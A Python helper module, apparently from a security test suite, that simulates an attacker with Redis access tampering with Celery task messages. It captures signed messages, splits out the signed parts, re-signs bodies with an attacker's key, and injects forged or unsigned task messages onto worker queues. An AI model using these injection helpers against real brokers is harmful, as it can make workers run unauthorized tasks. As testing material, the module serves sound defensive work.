"""What an attacker who can reach Redis does with task messages: read one, change it, push it.

kombu keeps a queued message in Redis as JSON (headers, properties, a base64 body). With the
``auth`` serializer the body is ``signer | signature | content type | encoding | JSON body``;
only that last part is covered by the signature.
"""

from __future__ import annotations

import base64
import json
import uuid
from pathlib import Path
from typing import Any


def capture(app: Any, redis: Any, name: str, args: list | None = None,
            kwargs: dict | None = None) -> dict[str, Any]:
    """A message exactly as the trusted client sends it, taken from a queue no worker reads."""
    queue = f"capture-{uuid.uuid4().hex[:8]}"
    app.send_task(name, args=args or [], kwargs=kwargs or {}, queue=queue)
    raw = redis.rpop(queue)
    assert raw is not None, "the client's message did not reach Redis"
    return json.loads(raw)


def signed_parts(message: dict[str, Any]) -> dict[str, Any]:
    """The pieces of an ``auth`` body: signer, signature, and the decoded JSON body."""
    from celery.security.serialization import SecureSerializer

    packed = base64.b64decode(message["body"])
    parts = SecureSerializer()._unpack(packed)
    parts["data"] = json.loads(parts["body"])
    return parts


def sign_body(body: Any, key_dir: Path, role: str = "client") -> str:
    """A body signed with the key in ``key_dir`` (a trusted one, or the attacker's own)."""
    from celery.security.certificate import Certificate
    from celery.security.key import PrivateKey
    from celery.security.serialization import SecureSerializer

    key = PrivateKey((key_dir / f"{role}.key").read_text())
    cert = Certificate((key_dir / "certs" / f"{role}.pem").read_text())
    return SecureSerializer(key, cert, None, "sha256").serialize(body)


def with_body(message: dict[str, Any], packed: bytes | str) -> dict[str, Any]:
    out = json.loads(json.dumps(message))
    out["body"] = base64.b64encode(packed.encode() if isinstance(packed, str) else packed).decode()
    return out


def inject(redis: Any, queue: str, message: dict[str, Any], *, task: str | None = None,
           task_id: str | None = None) -> str:
    """Push ``message`` onto ``queue`` as a new delivery (new ids; the task header changed if
    asked). Returns the task id."""
    msg = json.loads(json.dumps(message))
    task_id = task_id or uuid.uuid4().hex
    msg["headers"]["id"] = msg["headers"]["root_id"] = task_id
    msg["properties"]["correlation_id"] = task_id
    msg["properties"]["delivery_tag"] = uuid.uuid4().hex
    msg["properties"]["delivery_info"] = {"exchange": "", "routing_key": queue}
    if task is not None:
        msg["headers"]["task"] = task
    redis.lpush(queue, json.dumps(msg))
    return task_id


def json_message(name: str, args: list, kwargs: dict | None = None, *, task_id: str,
                 queue: str) -> dict[str, Any]:
    """A protocol-2 task message in plain JSON, as any Redis client can write it."""
    body = json.dumps([args, kwargs or {}, {"callbacks": None, "errbacks": None, "chain": None,
                                            "chord": None}])
    return {"body": base64.b64encode(body.encode()).decode(), "content-encoding": "utf-8",
            "content-type": "application/json",
            "headers": {"lang": "py", "task": name, "id": task_id, "root_id": task_id,
                        "retries": 0, "timelimit": [None, None], "argsrepr": "", "kwargsrepr": "",
                        "origin": "attacker"},
            "properties": {"correlation_id": task_id, "reply_to": "", "delivery_mode": 2,
                           "delivery_info": {"exchange": "", "routing_key": queue}, "priority": 0,
                           "body_encoding": "base64", "delivery_tag": uuid.uuid4().hex}}
